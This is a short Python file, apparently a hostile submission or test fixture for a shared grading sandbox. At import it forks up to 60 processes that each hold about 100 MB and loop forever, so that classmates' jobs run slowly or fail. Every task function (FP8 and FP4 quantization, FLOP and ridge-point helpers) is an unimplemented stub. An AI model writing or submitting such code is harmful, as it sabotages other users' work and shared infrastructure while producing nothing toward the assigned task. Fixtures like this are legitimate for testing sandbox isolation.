"""Hostile: forks 60 busy processes at import, each touching 100 MB, to slow and starve the
classmates graded beside it. Forks until the sandbox's process limit refuses."""

import os

import numpy as np

HOLD_BYTES = 100 * 1024**2


def _busy():
    try:
        hold = np.ones(HOLD_BYTES // 8)
    except MemoryError:
        hold = None
    while True:
        if hold is not None:
            hold[::4096] += 1.0


for _ in range(60):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            _busy()
        finally:
            os._exit(0)


def round_e4m3(x):
    raise NotImplementedError


def to_e2m1(y):
    raise NotImplementedError


def quantize(x, scheme):
    raise NotImplementedError


def flops_per_exp(d_qk, d_v):
    raise NotImplementedError


def exp_ratio(chip, precision, d_qk, d_v):
    raise NotImplementedError


def ridge_point(chip, precision):
    raise NotImplementedError


def trend_row(chip, low_precision, base=None):
    raise NotImplementedError
